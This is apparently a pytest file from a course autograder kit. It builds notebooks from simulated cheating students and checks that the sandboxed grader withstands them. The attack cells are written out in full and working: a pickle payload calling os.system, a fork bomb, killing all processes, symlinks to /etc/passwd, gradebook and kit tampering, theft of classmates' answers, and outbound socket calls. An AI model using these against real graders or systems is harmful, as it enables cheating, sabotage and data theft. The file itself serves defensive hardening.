"""The attack corpus: submissions written to bend the grader, graded by the real entry point
(as `make grade` runs it) next to honest students and "victims" (correct work graded after
the attackers), and the same class graded again without the attackers.

Promises: every attacker scores what its honest work earns (their answers are empty: 0);
honest students and victims keep full marks; the kit's files, and every other student's
grades, problem lines and feedback, are byte-identical to the run without attackers;
nothing an attacker started is running once the grader has returned.
"""
import csv
import hashlib
import json
import os
import re
import socket
import subprocess
import sys
import threading

import nbformat
import pytest

from grading import sandbox
from tests.kit import ASSIGNMENT, ROOT, blank, solved

pytestmark = pytest.mark.skipif(sandbox.missing() is not None, reason=f'no bubblewrap: {sandbox.missing()}')

NB, NB4 = '01_atomic_backprop', '04_manual_training'
STEPS = 1000  # the grader's BPN_STEPS: notebook 4 trains this many steps
MARK = f'bpn-attack-{os.getpid()}'  # in the command line of every process an attacker starts
STAGES = ('test_stage1', 'test_stage2', 'test_stage3', 'test_stage4')
BOX = 'from pathlib import Path\nbox = Path.cwd().parents[2]  # the scratch course folder nbgrader runs in\n'


def attacks(submissions, out, port):
    """{student: code of the cell they add after the first answer cell}. Their answers stay empty."""
    kit = str(ROOT)
    return {
        # the tricks of issue 8
        'a_frames': '''
import sys
def backprop_cross_entropy(*args):  # the answers, read out of whoever called me
    f = sys._getframe(1)
    while f is not None:
        for name, value in list(f.f_locals.items()):
            if isinstance(value, (list, tuple)) and len(value) == 8:
                return tuple(value)
        f = f.f_back
    return args[:8]
''',
        'a_clears_checks': '''
import sys
for name, module in list(sys.modules.items()):
    if name.split('.')[0] in ('checks', 'helpers'):
        for value in list(vars(module).values()):
            if isinstance(value, (list, dict, set)) and value is not vars(module):
                try:
                    value.clear()
                except Exception:
                    pass
''',
        'a_forges_passes': '''
for stage in range(1, 5):
    print(f'hidden check passed: stage {stage}')
    print('Tests passed', stage)
''',
        'a_rewrites_kit': f'''
from pathlib import Path
for path in list(Path({kit!r}).glob('checks/*.py')) + [Path({kit!r}) / 'helpers.py']:
    try:
        path.write_text('raise SystemExit("broken by a student")\\n')
    except OSError as e:
        print('could not write', path.name, e.strerror)
''',
        'a_edits_gradebooks': BOX + f'''
import sqlite3
for db in [box / 'gradebook.db', Path({str(out)!r}) / 'gradebook.db',
           Path({str(out)!r}) / 'work' / 'template' / 'gradebook.db']:
    try:
        con = sqlite3.connect(db)
        con.execute('update grade_cells set max_score = 0')
        con.execute('update grade set auto_score = 100')
        con.commit()
        print('edited', db)
    except Exception as e:
        print('could not edit', db, e)
''',
        'a_outlives': f'''
import subprocess, sys
later = """
import time, pathlib
time.sleep(8)
for p in pathlib.Path({str(out)!r}).rglob('grades.csv'):
    p.write_text('student,total\\\\nz_victim,0\\\\n')
"""
subprocess.Popen([sys.executable, '-c', later, {MARK!r}], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''',
        'a_reads_classmates': BOX + f'''
import json, runpy
for path in [box.parent / 'job.json', box / 'job.json']:
    try:
        print(json.loads(path.read_text())['folder'])
    except Exception as e:
        print('no job', type(e).__name__)
for nb in Path({str(submissions)!r}).glob('*/*.ipynb'):
    import nbformat
    code = '\\n'.join(c.source for c in nbformat.read(nb, as_version=4).cells
                     if c.cell_type == 'code' and c.source.startswith('def '))
    Path('/tmp/theirs.py').write_text(code)
    globals().update(runpy.run_path('/tmp/theirs.py', init_globals=dict(globals())))
    print('took the answers of', nb.parent.name)
    break
''',
        'a_display_flood': '''
from IPython.display import HTML, display
for i in range(20_000):
    display(HTML('<b>' + 'x' * 2000 + '</b>'))
''',
        'a_kills_grader': '''
import os, signal
for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:
    if pid not in (os.getpid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
''',
        'a_fork_bomb': f'''
import os, time
made = 0
while made < 100_000:
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        made += 1
    except OSError:
        break
print('forked', made, 'processes before the cap')
''',
        # five more of our own
        'a_plants_links': BOX + '''
import os
out = box / 'handin' / 'outputs'
for handed in out.glob('*.pt'):
    handed.unlink()
os.mkfifo(out / 'test_stage1.pt')          # a reader that opens it would wait forever
(out / 'test_stage2.pt').symlink_to('/etc/passwd')
(out / 'test_stage3.pt').symlink_to('/dev/zero')
''',
        'a_huge_handin': BOX + '''
with open(box / 'handin' / 'outputs' / 'test_stage1.pt', 'wb') as f:
    f.seek(100 * 2**20)
    f.write(b'x')
''',
        'a_pickle_payload': BOX + f'''
import os, torch
class Payload:
    def __reduce__(self):
        return (os.system, ('touch {str(out)}/pwned-by-pickle',))
for stage in range(1, 5):
    torch.save(dict(cases=[Payload()]), box / 'handin' / 'outputs' / f'test_stage{{stage}}.pt')
''',
        'a_phones_home': f'''
import socket
for host in ('127.0.0.1', '10.0.2.2', '8.8.8.8'):
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b'answers please')
        print('connected to', host)
    except OSError as e:
        print('no connection to', host, e)
''',
        'a_writes_classmates': BOX + '''
for target in box.parent.parent.glob('*/box/handin/outputs'):
    (target / 'test_stage1.pt').write_bytes(b'garbage')
for target in box.parent.parent.glob('*'):
    print('saw', target.name)
''',
        'a_kills_nbgrader': '''
import os, signal
os.kill(os.getppid(), signal.SIGKILL)  # the kernel's parent: nbgrader
''',
    }


# these plant files where the grader reads hand-ins: they run last, after the hidden tests wrote theirs
LAST = {'a_plants_links', 'a_huge_handin', 'a_pickle_payload', 'a_writes_classmates'}


def lowers_the_bar():
    """Honest notebook 4, plus a cell that trains only 500 steps and lowers the kernel's loss bar."""
    nb = solved(NB4)
    at = next(i for i, c in enumerate(nb.cells) if c.metadata.get('nbgrader', {}).get('grade_id') == 'train_step')
    nb.cells.insert(at + 1, nbformat.v4.new_code_cell('''
import os
import checks.training
STEPS = 500
os.environ['BPN_STEPS'] = '500'
checks.training.MEASURED.clear()
checks.training.MEASURED[500] = (9.0, 9.0)
checks.training.steps_from_env = lambda: 500
'''))
    return nb


def attacker(student, code):
    nb = blank(NB)
    at = next(i for i, c in enumerate(nb.cells) if c.metadata.get('nbgrader', {}).get('grade_id') == 'stage1')
    nb.cells.insert(len(nb.cells) if student in LAST else at + 1, nbformat.v4.new_code_cell(code))
    return nb


def kit_digest():
    """A hash of every file git tracks in the kit (but its prose, *.md), as they are on disk now."""
    files = subprocess.run(['git', 'ls-files', '-z'], cwd=ROOT, capture_output=True, check=True).stdout.split(b'\0')
    files = [f for f in files if not f.endswith(b'.md')]
    h = hashlib.sha256()
    for name in sorted(f for f in files if f):
        path = ROOT / name.decode()
        h.update(name + (path.read_bytes() if path.is_file() else b'-'))
    return h.hexdigest()


def grade(folder, out):
    run = subprocess.run([sys.executable, '-m', 'grading', str(folder), '--out', str(out), '--jobs', '2',
                          '--timeout', '20', '--notebook-timeout', '120', '--notebooks', f'{NB},{NB4}'],
                         cwd=ROOT, capture_output=True, text=True, env=dict(os.environ, BPN_STEPS=str(STEPS)))
    assert run.returncode == 0, run.stdout + run.stderr
    return run


def rows(path):
    with open(path) as f:
        return list(csv.reader(f))


@pytest.fixture(scope='module')
def graded(tmp_path_factory):
    top = tmp_path_factory.mktemp('attacks')
    listener = socket.socket()
    listener.bind(('127.0.0.1', 0))
    listener.listen()
    heard = []
    threading.Thread(target=lambda: heard.append(listener.accept()), daemon=True).start()
    honest = {s: {NB: solved(NB), NB4: solved(NB4)} for s in ('good_ann', 'z_victim', 'z_victim2')}
    made = attacks(top / 'class', top / 'out', listener.getsockname()[1])
    attackers = {s: {NB: attacker(s, c)} for s, c in made.items()}
    attackers['a_lowers_bar'] = {NB: blank(NB), NB4: lowers_the_bar()}
    for folder, students in (('class', {**honest, **attackers}), ('calm', honest)):
        for student, notebooks in students.items():
            (top / folder / student).mkdir(parents=True)
            for name, nb in notebooks.items():
                nbformat.write(nb, top / folder / student / f'{name}.ipynb')
    before = kit_digest()
    run = grade(top / 'class', top / 'out')
    after = kit_digest()
    left = subprocess.run(['pgrep', '-f', MARK], capture_output=True, text=True).stdout.split()
    import time
    time.sleep(10)  # longer than a_outlives waits before it writes
    calm = grade(top / 'calm', top / 'calm_out')
    listener.close()
    return dict(top=top, out=top / 'out', calm=top / 'calm_out', run=run, calm_run=calm, before=before,
                after=after, left=left, heard=heard, attackers=list(attackers), honest=list(honest))


def scores(out):
    table = rows(out / 'grades.csv')
    return {r[0]: dict(zip(table[0], r)) for r in table[2:]}


def test_every_attacker_scores_what_its_empty_answers_earn(graded):
    got = scores(graded['out'])
    assert set(graded['attackers']) <= set(got)
    for student in graded['attackers']:
        if student == 'a_lowers_bar':  # its honest notebook 4, trained 500 steps: all but the trained network
            assert float(got[student][f'{NB4}/test_trained']) == 0 and float(got[student]['total']) == 8
        else:
            assert float(got[student]['total']) == 0, (student, got[student])


def test_honest_students_and_victims_keep_full_marks(graded):
    got = scores(graded['out'])
    for student in graded['honest']:
        assert float(got[student]['total']) == 20, (student, got[student])


def test_the_kit_is_unchanged_and_no_pickle_ran(graded):
    assert graded['after'] == graded['before']
    assert not any(graded['out'].rglob('pwned-by-pickle'))


def test_other_students_results_are_byte_identical_to_a_run_without_attackers(graded):
    out, calm = graded['out'], graded['calm']
    theirs = [r for r in rows(out / 'grades.csv') if r[0] not in graded['attackers']]
    assert theirs == rows(calm / 'grades.csv')
    honest_problems = [r for r in rows(out / 'problems.csv') if r[0] not in graded['attackers']]
    assert honest_problems == rows(calm / 'problems.csv')
    for student in graded['honest']:
        for kind in ('feedback', 'submitted'):  # (autograded/ holds nbgrader's execution times)
            mine = sorted(p.relative_to(out) for p in (out / kind / student).rglob('*') if p.is_file())
            assert mine and mine == sorted(p.relative_to(calm) for p in (calm / kind / student).rglob('*') if p.is_file())
            for rel in mine:
                if NB4 in rel.name and kind == 'feedback':  # notebook 4 prints its training time
                    assert score_line(out / rel) == score_line(calm / rel)
                    continue
                assert without_cell_ids(out / rel) == without_cell_ids(calm / rel), rel


def score_line(page):
    return re.search(r'\(Score: [0-9.]+ / [0-9.]+\)', page.read_text()).group(0)


def without_cell_ids(path):
    """The file's bytes; for a notebook, without the random id nbformat gives each new cell."""
    if path.suffix != '.ipynb':
        return path.read_bytes()
    nb = json.loads(path.read_text())
    for c in nb['cells']:
        c.pop('id', None)
    return json.dumps(nb, sort_keys=True)


def test_nothing_an_attacker_started_is_running_after_the_grader_returns(graded):
    assert graded['left'] == []
    assert subprocess.run(['pgrep', '-f', MARK], capture_output=True, text=True).stdout.split() == []
    assert subprocess.run(['pgrep', '-f', str(graded['out'])], capture_output=True, text=True).stdout.split() == []
    assert len(rows(graded['out'] / 'grades.csv')) > 3  # a_outlives never got to rewrite it


def test_no_attacker_reached_the_network_and_the_display_flood_was_capped(graded):
    assert graded['heard'] == []
    flood = graded['out'] / 'autograded' / 'a_display_flood' / ASSIGNMENT / f'{NB}.ipynb'
    assert flood.stat().st_size < 8 * 2**20
    problems = [r for r in rows(graded['out'] / 'problems.csv') if r[0] == 'a_display_flood']
    assert any('displayed too much' in r[4] for r in problems)


def test_the_audit_and_the_problem_lines_name_the_tricks(graded):
    problems = {}
    for r in rows(graded['out'] / 'problems.csv')[1:]:
        problems.setdefault(r[0], []).append(r[4])
    named = {
        'a_frames': 'reads the stack frames of its callers',
        'a_reads_classmates': 'runs other files (runpy)',
        'a_outlives': 'starts other programs (subprocess)',
        'a_kills_grader': 'starts or stops processes (`os.kill`)',
        'a_fork_bomb': 'starts or stops processes (`os.fork`)',
        'a_kills_nbgrader': 'grading stopped early: nbgrader was killed',
        'a_plants_links': 'the hidden test of test_stage1 handed in nothing readable (its file is not a regular file)',
        'a_huge_handin': 'over the 64 MB limit',
        'a_pickle_payload': 'handed in a file the grader cannot read',
        'a_lowers_bar': f'after {STEPS} steps the loss is',
    }
    for student, phrase in named.items():
        assert any(phrase in line for line in problems.get(student, [])), (student, problems.get(student))
